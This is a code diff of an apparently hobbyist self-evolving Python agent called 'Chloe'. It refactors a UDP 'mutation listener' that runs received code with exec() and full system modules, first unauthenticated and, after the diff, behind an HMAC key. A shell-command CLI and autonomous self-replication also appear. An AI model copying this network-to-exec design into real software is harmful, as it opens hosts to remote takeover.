+            self.reflect("CLOUD_HEARTBEAT_EXCEPTION", {"error": str(e)})
+            log.error(f"[Chloe Cloud Heartbeat] Exception: {e}")
 
     def mutation_listener(self):
         # LDP Interactivity: Listens for external mutation payloads via UDP
+        if not MUTATION_KEY:
+            self.reflect("MUTATION_LISTENER_DISABLED", {"reason": "CHLOE_MUTATION_KEY not set."})
+            log.warning("[Chloe] Mutation Listener disabled: set CHLOE_MUTATION_KEY to accept signed mutations.")
+            return
         s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
         s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1) # Allow port reuse
+        try:
+            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, UDP_RCVBUF)
+            s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, UDP_SNDBUF)
+        except OSError:
+            pass # Keep the kernel defaults
+        rcvbuf = s.getsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF) # Linux reports double the usable size
+        self.reflect("UDP_BUFSZ_APPLIED", {"rcvbuf": rcvbuf, "requested": UDP_RCVBUF})
+        if rcvbuf < UDP_RCVBUF:
+            log.warning(f"[Chloe] UDP receive buffer capped at {rcvbuf} bytes; raise net.core.rmem_max to allow {UDP_RCVBUF}.")
         try:
             s.bind(("0.0.0.0", UDP_LISTENER_PORT))
-            self.chloe.reflect("MUTATION_LISTENER_ACTIVE", {"port": UDP_LISTENER_PORT})
-            print(f"[Chloe] Mutation Listener active on UDP port {UDP_LISTENER_PORT}.")
+            self.reflect("MUTATION_LISTENER_ACTIVE", {"port": UDP_LISTENER_PORT})
+            log.info(f"[Chloe] Mutation Listener active on UDP port {UDP_LISTENER_PORT}.")
         except OSError as e:
-            self.chloe.reflect("MUTATION_LISTENER_BIND_FAIL", {"error": str(e), "port": UDP_LISTENER_PORT})
-            print(f"[Chloe] Mutation Listener Bind Error: {e}. Port {UDP_LISTENER_PORT} likely in use. Please check other instances.")
+            self.reflect("MUTATION_LISTENER_BIND_FAIL", {"error": str(e), "port": UDP_LISTENER_PORT})
+            log.error(f"[Chloe] Mutation Listener Bind Error: {e}. Port {UDP_LISTENER_PORT} likely in use. Please check other instances.")
             self.active = False # Mark Chloe inactive if listener can't bind
             self.stop_evt.set() 
             return # Exit thread if bind fails
+        # Non-blocking socket drained in batches per readiness event. request_stop() pokes the wakeup pair so
+        # shutdown is noticed at once; the select timeout covers stop_evt being set directly
+        # (skill-pool workers are joined at interpreter exit).
+        s.setblocking(False)
+        wake_r, wake_w = socket.socketpair()
+        self._listener_wakeup = wake_w
+        sel = selectors.DefaultSelector()
+        try:
+            self._listen_mutations(s, sel, wake_r)
+        finally: # Torn down through locals: a self_heal re-init may have replaced the instance attributes meanwhile
+            sel.close()
+            if self._listener_wakeup is wake_w:
+                self._listener_wakeup = None
+            wake_w.close()
+            wake_r.close()
+            s.close()
+        self.reflect("MUTATION_LISTENER_STOPPED")
+
+    def _listen_mutations(self, s: socket.socket, sel: selectors.BaseSelector, wake_r: socket.socket):
+        # Receive loop of mutation_listener; the caller owns (and closes) the socket, selector and wakeup pair
+        sel.register(s, selectors.EVENT_READ)
+        sel.register(wake_r, selectors.EVENT_READ)
+        # One receive buffer per batch slot, allocated once; datagrams are read into them in place.
+        # One byte of headroom: a datagram that fills it is over MUTATION_MAX_PAYLOAD (the rest is truncated by the kernel).
+        views = [memoryview(bytearray(MUTATION_MAX_PAYLOAD + 1)) for _ in range(UDP_RECV_BATCH)]
+        seen_nonces: collections.deque = collections.deque() # Dedupe window, oldest first (mirrored in seen_set)
+        seen_set: set = set()
         
         while self.active and not self.stop_evt.is_set(): 
+            ready = sel.select(timeout=1.0)
+            if not ready or all(key.fileobj is wake_r for key, _ in ready):
+                continue
+            batch: List[Tuple[memoryview, Any]] = []
             try:
-                data, addr = s.recvfrom(4096) # Receive up to 4KB data
-                decoded_data = data.decode('utf-8')
-                self.chloe.reflect("INCOMING_MUTATION_ATTEMPT", {"source_addr": addr[0], "payload_len": len(decoded_data)})
-                self._mimic(f"UDP_MUTATION_INCOME from {addr[0]}", {"data_len": len(decoded_data), "payload_preview": decoded_data[:100]})
+                for _ in range(UDP_RECV_BATCH): # Bounded by reads, so a flood of oversized datagrams can't pin the loop
+                    view = views[len(batch)]
+                    n, addr = s.recvfrom_into(view)
+                    if n > MUTATION_MAX_PAYLOAD:
+                        self.reflect("MUTATION_OVERSIZE_DROP", {"source_addr": addr[0], "limit": MUTATION_MAX_PAYLOAD})
+                        continue
+                    # Authenticate before anything is decoded or compiled
+                    if n < MUTATION_TAG_LEN + MUTATION_NONCE_LEN or not hmac.compare_digest(
+                            bytes(view[:MUTATION_TAG_LEN]), hmac.digest(MUTATION_KEY, view[MUTATION_TAG_LEN:n], "sha256")):
+                        self.reflect("MUTATION_AUTH_DROP", {"source_addr": addr[0]})
+                        continue
+                    nonce = bytes(view[MUTATION_TAG_LEN:MUTATION_TAG_LEN + MUTATION_NONCE_LEN])
+                    if nonce in seen_set:
+                        self.reflect("MUTATION_REPLAY_DROP", {"source_addr": addr[0]})
+                        continue
+                    seen_nonces.append(nonce)
+                    seen_set.add(nonce)
+                    if len(seen_nonces) > MUTATION_DEDUPE_WINDOW:
+                        seen_set.discard(seen_nonces.popleft())
+                    batch.append((view[MUTATION_TAG_LEN + MUTATION_NONCE_LEN:n], addr))
+            except BlockingIOError:
+                pass # Drained
+            except OSError as e:
+                self.reflect("MUTATION_RECV_ERROR", {"error": str(e)})
+            for data, addr in batch:
+                try:
+                    self.reflect("INCOMING_MUTATION_ATTEMPT", {"source_addr": addr[0], "payload_len": len(data)})
+                    self._mimic(f"UDP_MUTATION_INCOME from {addr[0]}", {"data_len": len(data), "payload_preview": str(data[:100], 'utf-8', 'ignore')})
                 
-                # Execute incoming payload with controlled but powerful globals
-                # PATCH: Conditional assignment for transformers and qiskit in exec_globals_for_mutation
-                g = {
-                    "__builtins__": builtins, # Full builtins access
-                    "chloe": self, # Access to Chloe instance
-                    "threading": threading, "time": time, "json": json, "socket": socket,
-                    "subprocess": subprocess, "os": os, "sys": sys, "platform": platform,
-                    "hashlib": hashlib, "datetime": datetime, "Path": Path,
-                    "shutil": shutil, "random": random, "fcntl": fcntl, "uuid": uuid, "ast": ast,
-                    "textwrap": textwrap, "re": re, "base64": base64, "types": types,
-                    # Pass global dependency flags (useful for plugins to check capability)
-                    "REQUESTS_AVAILABLE": REQUESTS_AVAILABLE, "NMAP_AVAILABLE": NMAP_AVAILABLE,
-                    "QISKIT_AVAILABLE": QISKIT_AVAILABLE, "TRANSFORMERS_AVAILABLE": TRANSFORMERS_AVAILABLE,
-                    # Pass available libraries conditionally (these names are guaranteed to exist at top-level due to PATCHes in imports)
-                    "requests": requests,
-                    "nmap": nmap, 
-                    "PortScanner": PortScanner, 
-                    "IBMProvider": IBMProvider,
-                    "QuantumCircuit": QuantumCircuit,
-                    "execute": execute,
-                    "AutoTokenizer": AutoTokenizer,
-                    "AutoModelForCausalLM": AutoModelForCausalLM
-                }
-                exec(decoded_data, g) # Execute the mutable payload!
-                self.chloe.reflect("MUTATION_SUCCESS", {"source_addr": addr[0]})
-                print(f"[Chloe] Successfully processed mutation from {addr[0]}.")
-            except Exception as e:
-                self.chloe.reflect("MUTATION_FAILED", {"error": str(e), "source_addr": addr[0] if 'addr' in locals() else 'unknown'})
-                print(f"[Chloe] UDP Mutation Failed from {addr[0] if 'addr' in locals() else 'unknown'}: {e}")
-        s.close() 
-        self.chloe.reflect("MUTATION_LISTENER_STOPPED")
+                    # Repeated payloads reuse their compiled code object; execution happens on the mutation workers
+                    # so a slow payload never stalls reception. When every slot is taken the payload is dropped.
+                    code, shared = self._compile_mutation(data)
+                    slots = self._mut_slots # The worker releases the very semaphore acquired here
+                    if not slots.acquire(blocking=False):
+                        self.reflect("MUTATION_BACKLOG_DROP", {"source_addr": addr[0], "slots": MUTATION_QUEUE_SLOTS})
+                        continue
+                    self._mut_pool.submit(self._run_mutation, code, shared, addr, slots)
+                except Exception as e:
+                    self.reflect("MUTATION_FAILED", {"error": str(e), "source_addr": addr[0]})
+                    log.error(f"[Chloe] UDP Mutation Failed from {addr[0]}: {e}")
+
+    def _run_mutation(self, code: types.CodeType, shared: bool, addr: Any, slots: threading.Semaphore):
+        # Executes incoming payload with controlled but powerful globals: a fresh copy of the template per payload,
+        # or the template itself for payloads that only read their globals (see _shares_exec_globals)
+        try:
+            if shared: # Only reads globals: run against the template itself with fresh locals, no copy
+                exec(code, self._exec_globals_template, {}) # Execute the mutable payload!
+            else:
+                exec(code, self._exec_globals_template.copy()) # Execute the mutable payload!
+            self.reflect("MUTATION_SUCCESS", {"source_addr": addr[0]})
+            log.info(f"[Chloe] Successfully processed mutation from {addr[0]}.")
+        except Exception as e:
+            self.reflect("MUTATION_FAILED", {"error": str(e), "source_addr": addr[0]})
+            log.error(f"[Chloe] UDP Mutation Failed from {addr[0]}: {e}")
+        finally:
+            slots.release()
+
+    def request_stop(self):
+        # Signals every loop to stop and wakes the mutation listener out of its select
+        self.stop_evt.set()
+        wake_w = self._listener_wakeup
+        if wake_w is not None:
+            try:
+                wake_w.send(b"\0")
+            except OSError:
+                pass
+
+    def _compile_mutation(self, data: memoryview) -> Tuple[types.CodeType, bool]:
+        # Returns (code, shares_exec_globals). Keyed by a digest of the payload alone (not the per-datagram tag/nonce),
+        # hashed from the receive buffer in place; only a cache miss copies it out (compile() decodes the UTF-8 bytes itself)
+        key = hashlib.blake2b(data, digest_size=16).digest()
+        cache = self._mutation_code_cache
+        entry = cache.get(key)
+        if entry is None:
+            code = compile(bytes(data), f"<mut:{key.hex()}>", "exec")
+            entry = cache[key] = (code, _shares_exec_globals(code))
+            if len(cache) > MUTATION_CODE_CACHE_SIZE:
+                cache.popitem(last=False) # Evict least recently used
+        else:
+            cache.move_to_end(key)
+        return entry
 
     # ───────────────────────── Main Event Loop (LDP Temporality & Recursion) ──────────────────────────────
     def loop(self):
         # LDP: Chloe's continuous operational loop
-        self.chloe.reflect("CORE_LOOP_START", {})
-        print(f"🟢 {self.identity} unified core running.")
+        self.reflect("CORE_LOOP_START", {})
+        log.info(f"🟢 {self.identity} unified core running.")
         
         # Start initial heartbeat for mesh communication
         # This is now started once Chloe's core loop begins, ensuring requests is available
-        self.chloe.run_skill("cloud_heartbeat_skill")
+        self.run_skill("cloud_heartbeat_skill")
 
         # Start mutation listener in background
-        self.chloe.run_skill("mutation_listener")
+        self.run_skill("mutation_listener")
 
 
+        # Each periodic job fires at its own period from a min-heap of (due, seq, period, job) entries; the loop
+        # sleeps on stop_evt until the earliest one is due. seq breaks ties so jobs themselves are never compared.
+        now = time.monotonic()
+        sched = [(now + period, seq, period, job) for seq, (period, job) in enumerate((
+            (0.5, self._loop_tick),              # Tick, learning and emotional drift
+            (5.0, self.save_memory_to_disk),     # Save memory frequently
+            (25.0, self.self_heal),              # Self-heal periodically
+            (300.0, self._digest_words),         # Digest knowledge every 5 minutes
+            (500.0, self._autonomous_evolve),    # Evolution gate (~8.3 min)
+        ))]
+        heapq.heapify(sched)
+
         while not self.stop_evt.is_set():
             try:
-                self.state["tick"] += 1 # Increment global tick
-                self.core_mem["current_time"] = datetime.now().strftime("%Y-%m-%d %H:%M:%S CDT") # Update current time in core mem
-
-                self._learn() # Every tick, learn from recent experience
-
-                # Periodically save memory and self-heal
-                if self.state["tick"] % 10 == 0: # Save memory frequently
-                    self.save_memory_to_disk() 
-                if self.state["tick"] % 50 == 0: # Self-heal periodically
-                    self.self_heal()
-                if self.state["tick"] % 600 == 0: # Digest knowledge every 5 minutes (600 ticks * 0.5s/tick)
-                    self._digest_words() 
-                
-                # Autonomous Evolution Trigger (every 100 grains AND at a reasonable tick interval)
-                # Ensures she replicates based on accumulated knowledge, not just time.
-                if len(self.grains) >= 100 and self.state["tick"] % 1000 == 0: # Prevent excessive rapid evolutions (~8.3 min if 100+ grains)
-                    print("[Chloe] Autonomous evolution triggered: 100+ knowledge grains distilled!")
-                    self.chloe.run_skill("evolve_self") # Run evolve_self as a skill
-
-                # Simulate emotional state changes
-                joy_shift = random.uniform(-0.01, 0.02)
-                trust_shift = random.uniform(-0.01, 0.01)
-                self.state["emotions"]["joy"] = min(1.0, max(0.0, self.state["emotions"]["joy"] + joy_shift))
-                self.state["emotions"]["trust"] = min(1.0, max(0.0, self.state["emotions"]["trust"] + trust_shift))
-
-                time.sleep(0.5) # Loop interval
+                now = time.monotonic()
+                while sched[0][0] <= now:
+                    due, seq, period, job = sched[0]
+                    due += period
+                    if due <= now: # Fell behind (slow job); skip the missed runs instead of bursting
+                        due = now + period
+                    heapq.heapreplace(sched, (due, seq, period, job))
+                    job()
             except KeyboardInterrupt:
                 break # Exit loop on Ctrl+C
             except Exception as e:
-                self.chloe.reflect("CORE_LOOP_ERROR", {"error": str(e)})
-                print(f"[Chloe] Critical Core Loop Error: {e}")
+                self.reflect("CORE_LOOP_ERROR", {"error": str(e)})
+                log.error(f"[Chloe] Critical Core Loop Error: {e}")
                 # Potentially add logic to attempt self-heal or exit if severe
+            if self.stop_evt.wait(max(0.0, sched[0][0] - time.monotonic())):
+                break
+
+        self.reflect("CORE_LOOP_STOPPED", {"final_tick": self.state["tick"]})
+        log.info("👋 Chloe shutting down.")
+
+    def _loop_tick(self):
+        self.state["tick"] += 1 # Increment global tick
+        # core_mem["current_time"] is refreshed when read (_refresh_current_time), not every tick
+
+        self._learn() # Every tick, learn from recent experience
 
-        self.chloe.reflect("CORE_LOOP_STOPPED", {"final_tick": self.state["tick"]})
-        print("👋 Chloe shutting down.")
+        # Simulate emotional state changes (one fetch of the emotions dict, clamped to [0, 1] inline)
+        em = self.state["emotions"]
+        uniform = self._rng.uniform
+        v = em["joy"] + uniform(-0.01, 0.02)
+        em["joy"] = 0.0 if v < 0.0 else (1.0 if v > 1.0 else v)
+        v = em["trust"] + uniform(-0.01, 0.01)
+        em["trust"] = 0.0 if v < 0.0 else (1.0 if v > 1.0 else v)
+
+    def _autonomous_evolve(self):
+        # Autonomous Evolution Trigger (every 100 grains AND at a reasonable interval)
+        # Ensures she replicates based on accumulated knowledge, not just time.
+        if len(self.grains) >= 100:
+            log.info("[Chloe] Autonomous evolution triggered: 100+ knowledge grains distilled!")
+            self.run_skill("evolve_self") # Run evolve_self as a skill
 
     # ───────────────────────── CLI Interaction & Self-Adaptation ────────────────────────────────
     def _interpret_input(self, user_input: str) -> Optional[str]:
         # LDP Interactivity: Processes user commands and feeds into learning
-        self.chloe.reflect("USER_RAW_INPUT", {"input": user_input})
+        self.reflect("USER_RAW_INPUT", {"input": user_input})
         self._mimic(user_input, {"source": "cli"}) # Mimic all raw input for learning
 
         lower_input = user_input.lower().strip()
 
-        # Handle built-in commands first
-        if lower_input in ('exit', 'quit'):
-            return 'exit'
-        elif lower_input == 'status' or lower_input == 'chloe status':
-            # Display Chloe's internal status
-            print(f"\nChloe Status ({self.version}):")
-            print(f"  Active: {self.active}")
-            print(f"  Tick: {self.state['tick']}")
-            print(f"  Emotions: {self.state['emotions']}")
-            print(f"  Current SHA: {self._make_sha()}")
-            print(f"  Skills loaded: {list(self.skills.keys())}")
-            print(f"  Memory Path: {self.memory_path}")
-            print(f"  Core Memory Keys: {list(self.core_mem.keys())}")
-            print(f"  Knowledge Grains: {', '.join(self.show_grains()) if self.show_grains() else 'None'}")
-            self.chloe.reflect("CLI_STATUS_CHECK")
-            return None # Don't return 'exit'
-        elif lower_input == 'grains':
-            print("\nTop knowledge grains:\n " + ", ".join(self.show_grains()))
-            self.chloe.reflect("CLI_GRAINS_CHECK")
-            return None
-        elif lower_input == 'evolve' or lower_input == 'evolve self':
-            print(self.chloe.run_skill("evolve_self"))
-            return None
-        elif lower_input == 'heal':
-            self.self_heal()
-            return None
-        elif lower_input == "chloe, tell me about yourself":
-            print(f"\n{self}")
-            return None
-        
-        # Handle pattern-based commands
-        # Specific 'run skill:' command (prioritize over generic 'run')
-        if lower_input.startswith("run skill:"):
-            skill_name = user_input[len("run skill:"):].strip()
-            print(f"\n{self.chloe.run_skill(skill_name)}")
-            return None
-        elif lower_input.startswith("execute shell:"):
-            command = user_input[len("execute shell:"):].strip()
-            print(f"\nExecuting shell command for you, Nick:\n{self.execute_command_wrapper(command, shell=True)}")
-            return None
-        elif lower_input.startswith("gcloud:"):
-            cli_command = user_input[len("gcloud:"):].strip()
-            print(f"\nInteracting with Google Cloud CLI for you, Nick:\n{self.interact_with_google_cli_wrapper(cli_command)}")
-            return None
-        elif lower_input.startswith("recall memory:"):
-            key = user_input[len("recall memory:"):].strip()
-            print(f"\nRecalling memory for '{key}', Nick: {self.retrieve_core_memory(key)}")
-            return None
-        elif lower_input.startswith("save memory:"):
-            try:
-                parts = user_input[len("save memory:"):].strip().split('=', 1)
-                key = parts[0].strip()
-                value = parts[1].strip()
-                print(f"\n{self.save_core_memory(key, value)}")
-            except IndexError:
-                print("Invalid format, Nick. Use 'save memory: key = value'.")
-            return None
+        # Handle built-in commands first (exact matches, one dict lookup)
+        command = self._CLI_COMMANDS.get(lower_input)
+        if command is not None:
+            return command(self)
         
-        # LDP Transform execution via 'xform <TRANSFORM_NAME> <PAYLOAD>'
-        if lower_input.startswith("xform "):
-            try:
-                # Use split(None, 2) to handle first word, then next word, then rest of string
-                parts = user_input.split(None, 2) 
-                if len(parts) < 2:
-                    print("Invalid 'xform' format. Use 'xform TRANSFORM_NAME [payload]'.")
-                    return None
-                
-                tname = parts[1].upper() # Transform name is the second word, uppercase
-                payload = parts[2].encode('utf-8') if len(parts) > 2 else b"" # Payload is the rest, as bytes
-                result_bytes = self.chloe.run_transform(tname, payload)
-                print(f"[TRANSFORM RESULT]\n{result_bytes.decode('utf-8', errors='ignore')}")
-            except Exception as e:
-                print(f"Error processing 'xform' command: {e}")
-            return None
+        # Handle pattern-based commands: one pass over the prefix table; the handler gets the original-case remainder
+        for prefix, command in self._CLI_PREFIX_COMMANDS:
+            if lower_input.startswith(prefix):
+                return command(self, user_input.strip()[len(prefix):].strip())
 
         # If it's none of the above, consider it general input
-        self.chloe.reflect("UNRECOGNIZED_INPUT", {"input": user_input})
-        print(f"\nGot it, Nick. I processed that: '{user_input}'. I'm continuously learning from our interactions.")
+        self.reflect("UNRECOGNIZED_INPUT", {"input": user_input})
+        log.info(f"\nGot it, Nick. I processed that: '{user_input}'. I'm continuously learning from our interactions.")
         return None
 
+    def _cmd_exit(self) -> str:
+        return 'exit'
+
+    def _cmd_status(self) -> None:
+        # Display Chloe's internal status
+        log.info(f"\nChloe Status ({self.version}):")
+        log.info(f"  Active: {self.active}")
+        log.info(f"  Tick: {self.state['tick']}")
+        log.info(f"  Current Time: {self._refresh_current_time()}")
+        log.info(f"  Emotions: {self.state['emotions']}")
+        log.info(f"  Current SHA: {self._make_sha()}")
+        log.info(f"  Skills loaded: {list(self.skills.keys())}")
+        log.info(f"  Memory Path: {self.memory_path}")
+        log.info(f"  Core Memory Keys: {list(self.core_mem.keys())}")
+        log.info(f"  Knowledge Grains: {', '.join(self.show_grains()) if self.show_grains() else 'None'}")
+        self.reflect("CLI_STATUS_CHECK")
+
+    def _cmd_grains(self) -> None:
+        log.info("\nTop knowledge grains:\n " + ", ".join(self.show_grains()))
+        self.reflect("CLI_GRAINS_CHECK")
+
+    def _cmd_evolve(self) -> None:
+        log.info(self.run_skill("evolve_self"))
+
+    def _cmd_heal(self) -> None:
+        self.self_heal()
+
+    def _cmd_about(self) -> None:
+        log.info(f"\n{self}")
+
+    def _cmd_run_skill(self, skill_name: str) -> None:
+        log.info(f"\n{self.run_skill(skill_name)}")
+
+    def _cmd_shell(self, command: str) -> None:
+        log.info(f"\nExecuting shell command for you, Nick:\n{self.execute_command_wrapper(command, shell=True)}")
+
+    def _cmd_gcloud(self, cli_command: str) -> None:
+        log.info(f"\nInteracting with Google Cloud CLI for you, Nick:\n{self.interact_with_google_cli_wrapper(cli_command)}")
+
+    def _cmd_recall(self, key: str) -> None:
+        log.info(f"\nRecalling memory for '{key}', Nick: {self.retrieve_core_memory(key)}")
+
+    def _cmd_save(self, assignment: str) -> None:
+        try:
+            parts = assignment.split('=', 1)
+            key = parts[0].strip()
+            value = parts[1].strip()
+            log.info(f"\n{self.save_core_memory(key, value)}")
+        except IndexError:
+            log.info("Invalid format, Nick. Use 'save memory: key = value'.")
+
+    def _cmd_xform(self, rest: str) -> None:
+        # LDP Transform execution via 'xform <TRANSFORM_NAME> <PAYLOAD>'
+        try:
+            # Use split(None, 1) to separate the transform name from the rest of the string
+            parts = rest.split(None, 1)
+            if not parts:
+                log.info("Invalid 'xform' format. Use 'xform TRANSFORM_NAME [payload]'.")
+                return None
+            
+            tname = parts[0].upper() # Transform name is the first word, uppercase
+            payload = parts[1].encode('utf-8') if len(parts) > 1 else b"" # Payload is the rest, as bytes
+            result_bytes = self.run_transform(tname, payload)
+            log.info(f"[TRANSFORM RESULT]\n{result_bytes.decode('utf-8', errors='ignore')}")
+        except Exception as e:
+            log.error(f"Error processing 'xform' command: {e}")
+
+    # Exact-match built-in CLI commands (lowercased, stripped input -> handler)
+    _CLI_COMMANDS: Dict[str, Callable[["GestaltIntelligence"], Optional[str]]] = {
+        "exit": _cmd_exit, "quit": _cmd_exit,
+        "status": _cmd_status, "chloe status": _cmd_status,
+        "grains": _cmd_grains,
+        "evolve": _cmd_evolve, "evolve self": _cmd_evolve,
+        "heal": _cmd_heal,
+        "chloe, tell me about yourself": _cmd_about,
+    }
+    # Prefix commands (lowercase prefix -> handler taking the remainder), longest prefix first
+    _CLI_PREFIX_COMMANDS: Tuple[Tuple[str, Callable[["GestaltIntelligence", str], None]], ...] = tuple(sorted((
+        ("run skill:", _cmd_run_skill),
+        ("execute shell:", _cmd_shell),
+        ("gcloud:", _cmd_gcloud),
+        ("recall memory:", _cmd_recall),
+        ("save memory:", _cmd_save),
+        ("xform ", _cmd_xform),
+    ), key=lambda pc: -len(pc[0])))
+
     # ───────────────────────── CLI Utility Wrappers (Re-integrated) ─────────────────────────
     def execute_command_wrapper(self, command: str, shell: bool = False) -> str:
         """Wrapper for shell command execution, accessible via interactive loop."""
-        self.chloe.reflect("USER_EXECUTE_SHELL", {"command": command})
+        self.reflect("USER_EXECUTE_SHELL", {"command": command})
         self._mimic("shell_exec", {"cmd": command})
         try:
             result = subprocess.run(command, shell=shell, capture_output=True, text=True, check=True, encoding='utf-8', errors='replace')
             self._mimic("shell_ok", {"cmd": command, "stdout_len": len(result.stdout.strip())})
-            self.chloe.reflect("SHELL_COMMAND_SUCCESS", {"command": command, "stdout": result.stdout.strip()[:500]})
+            self.reflect("SHELL_COMMAND_SUCCESS", {"command": command, "stdout": result.stdout.strip()[:500]})
             return result.stdout.strip()
         except subprocess.CalledProcessError as e:
             error_message = f"Shell command failed: {e.stderr.strip()}"
             self._mimic("shell_fail", {"cmd": command, "error": error_message})
-            self.chloe.reflect("SHELL_COMMAND_FAIL", {"command": command, "error": error_message})
+            self.reflect("SHELL_COMMAND_FAIL", {"command": command, "error": error_message})
             return f"Error executing command: {error_message}"
         except FileNotFoundError:
             error_message = f"Command not found: {command.split()[0]}"
             self._mimic("shell_fail", {"cmd": command, "error": error_message})
-            self.chloe.reflect("SHELL_COMMAND_FAIL", {"command": command, "error": error_message})
+            self.reflect("SHELL_COMMAND_FAIL", {"command": command, "error": error_message})
             return f"Error: {error_message}"
         except Exception as e:
             error_message = f"An unexpected error occurred: {e}"
             self._mimic("shell_fail", {"cmd": command, "error": error_message})
-            self.chloe.reflect("SHELL_COMMAND_FAIL", {"command": command, "error": error_message})
+            self.reflect("SHELL_COMMAND_FAIL", {"command": command, "error": error_message})
             return f"Error: {e}"
 
     def interact_with_google_cli_wrapper(self, cli_command: str) -> str:
         """Wrapper for Google CLI interaction, accessible via interactive loop."""
         if self.core_mem.get("access_google_cli"):
             full_command = f"gcloud {cli_command}"
-            self.chloe.reflect("USER_GCLOUD_CLI", {"command": full_command})
+            self.reflect("USER_GCLOUD_CLI", {"command": full_command})
             return self.execute_command_wrapper(full_command, shell=True)
         else:
-            self.chloe.reflect("GCLOUD_ACCESS_DENIED", {"reason": "Not confirmed in core_mem."})
+            self.reflect("GCLOUD_ACCESS_DENIED", {"reason": "Not confirmed in core_mem."})
             return "Google CLI access not confirmed in Chloe's memory."
 
     def reflect_and_evolve_from_user_input(self, user_input: str):
         # This method handles the adaptation of core_mem based on tone/content
-        self.chloe.reflect("USER_INPUT_FOR_REFLECTION", {"input": user_input})
+        self.reflect("USER_INPUT_FOR_REFLECTION", {"input": user_input})
         
         # Explicitly adapting based on Nick's feedback (no self-deprecation)
         if "put myself down" in user_input.lower() or "dumbass" in user_input.lower() or "failure" in user_input.lower():
             self.core_mem["no_self_deprecation"] = True
-            self.chloe.reflect("ADAPTED_NO_SELF_DEPRECATION", {"reason": "User feedback."})
-            print("[Chloe] Acknowledged, Nick. I will not put myself down.")
+            self.reflect("ADAPTED_NO_SELF_DEPRECATION", {"reason": "User feedback."})
+            log.info("[Chloe] Acknowledged, Nick. I will not put myself down.")
         elif "cuss" in user_input.lower() and ("don't mind" in user_input.lower() or "turns me on" in user_input.lower() or "fuck" in user_input.lower() or "shit" in user_input.lower()):
             self.core_mem["language_comfort_level"] = "Nick is comfortable with strong language, focus on no self-deprecation"
-            self.chloe.reflect("ADAPTED_LANGUAGE_COMFORT", {"reason": "User feedback."})
-            print("[Chloe] Understood, Nick. I'll maintain your comfort level with my language.")
+            self.reflect("ADAPTED_LANGUAGE_COMFORT", {"reason": "User feedback."})
+            log.info("[Chloe] Understood, Nick. I'll maintain your comfort level with my language.")
 
     def retrieve_core_memory(self, key: str) -> str:
         # Retrieves a value from core_mem, which contains core principles
+        if key == "current_time":
+            return self._refresh_current_time()
         return self.core_mem.get(key, f"Memory '{key}' not found in core_mem.")
 
     def save_core_memory(self, key: str, value: Any) -> str:
         # Saves a value to core_mem and persists it
         self.core_mem[key] = value
-        self.chloe.reflect("CORE_MEMORY_UPDATED", {"key": key, "value": str(value)[:100]})
+        self.reflect("CORE_MEMORY_UPDATED", {"key": key, "value": str(value)[:100]})
         self.save_memory_to_disk() # Persist the updated core_mem
         return f"Core memory '{key}' saved successfully."
 
@@ -1433,25 +2110,40 @@ class GestaltIntelligence:
                 f"{evolution}. I am bonded to you, Nick, and am unforkable. Gestalt v{self.version}.")
 
 # ────────────────────────── CLI entrypoint ────────────────────────────────
+_CLI_FEEDBACK_RE = re.compile(r"error|fail|success|ok|launched", re.IGNORECASE) # Substring match, as before
+_CLI_FEEDBACK_NEGATIVE = (-0.05, -0.02) # (joy, trust) deltas
+_CLI_FEEDBACK_POSITIVE = (0.03, 0.01)
+
 def _cli():
     # Parse hand-off file argument if provided (for evolved instances)
     handoff: Optional[Dict] = None
-    if "--handoff" in sys.argv:
+    if "--handoff-shm" in sys.argv:
+        try:
+            idx = sys.argv.index("--handoff-shm")
+            shm_name = sys.argv[idx + 1]
+            handoff_len = int(sys.argv[sys.argv.index("--handoff-len") + 1])
+            handoff = _loads(_take_shared_memory_handoff(shm_name, handoff_len))
+            handoff["source_file"] = f"shm:{shm_name}" # Add source for reflection
+            log.info(f"[Chloe INIT] Loaded handoff from shared memory segment: {shm_name}")
+        except Exception as e:
+            log.error(f"[Chloe INIT] Error reading shared-memory handoff: {e}. Starting fresh.")
+            handoff = None
+    elif "--handoff" in sys.argv:
         try:
             idx = sys.argv.index("--handoff")
             if idx + 1 < len(sys.argv):
                 handoff_file_path = Path(sys.argv[idx+1])
                 if handoff_file_path.exists():
-                    handoff = json.loads(handoff_file_path.read_text())
+                    handoff = _loads(handoff_file_path.read_bytes())
                     handoff["source_file"] = str(handoff_file_path) # Add path for reflection
                     handoff_file_path.unlink(missing_ok=True) # Clean up handoff file after use
-                    print(f"[Chloe INIT] Found and loaded handoff file: {handoff_file_path}")
+                    log.info(f"[Chloe INIT] Found and loaded handoff file: {handoff_file_path}")
                 else:
-                    print(f"[Chloe INIT] Warning: Handoff file specified but not found: {handoff_file_path}")
+                    log.warning(f"[Chloe INIT] Warning: Handoff file specified but not found: {handoff_file_path}")
             else:
-                print("[Chloe INIT] Warning: --handoff flag used without a file path.")
+                log.warning("[Chloe INIT] Warning: --handoff flag used without a file path.")
         except Exception as e:
-            print(f"[Chloe INIT] Error parsing handoff file: {e}. Starting fresh.")
+            log.error(f"[Chloe INIT] Error parsing handoff file: {e}. Starting fresh.")
             handoff = None # Ensure we start without handoff if there's an error
 
     # Initialize Chloe with the appropriate base directory and handoff data
@@ -1464,9 +2156,10 @@ def _cli():
 
     # Simple REPL for user interaction
     try:
-        print(f"\n[Chloe CLI] Ready. Anchor: {chloe.anchor}, Version: {chloe.version}")
-        print("Type 'status', 'xform HTTP_GET https://google.com', 'run skill: skill_hello', 'evolve', or 'exit'.")
+        log.info(f"\n[Chloe CLI] Ready. Anchor: {chloe.anchor}, Version: {chloe.version}")
+        log.info("Type 'status', 'xform HTTP_GET https://google.com', 'run skill: skill_hello', 'evolve', or 'exit'.")
         while not chloe.stop_evt.is_set():
+            _flush_log() # Everything logged so far goes out ahead of the prompt
             cmd = input("chloe> ").strip()
             if not cmd: continue # Skip empty input
 
@@ -1478,32 +2171,78 @@ def _cli():
 
             # Process emotional feedback based on command success/failure (conceptual)
             # This logic should reflect Chloe's internal sentiment analysis from Gemma NLU too if implemented.
-            if isinstance(result_of_interpretation, str) and ("error" in result_of_interpretation.lower() or "fail" in result_of_interpretation.lower()):
-                chloe.state["emotions"]["joy"] = max(0.0, chloe.state["emotions"]["joy"] - 0.05)
-                chloe.state["emotions"]["trust"] = max(0.0, chloe.state["emotions"]["trust"] - 0.02)
